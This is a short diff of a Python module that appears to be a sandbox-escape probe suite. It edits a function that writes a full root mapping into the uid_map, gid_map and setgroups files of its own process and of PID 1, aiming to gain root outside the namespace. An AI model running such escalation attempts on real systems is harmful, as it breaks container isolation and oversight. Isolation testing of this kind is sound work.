@@ -206,12 +206,12 @@ def enter_namespaces(bait: Bait) -> str | None:
 
 @attempt(why="A map says who is who outside; a wider one makes one root there.", wins="a map is written")
 def widen_the_user_map(bait: Bait) -> str | None:
-    """Write to uid_map, gid_map, setgroups and projid_map of one's own and of process 1's namespace."""
+    """Write to uid_map, gid_map and setgroups of one's own and of process 1's namespace."""
 
     def write(path: str) -> str:
         with open(path, "r+b", buffering=0) as file:
             file.write(b"deny" if path.endswith("setgroups") else b"0 0 4294967295")
         return path
 
-    names = ("uid_map", "gid_map", "projid_map", "setgroups")
+    names = ("uid_map", "gid_map", "setgroups")
     return first(write, [f"/proc/{pid}/{name}" for pid in ("self", "1") for name in names])
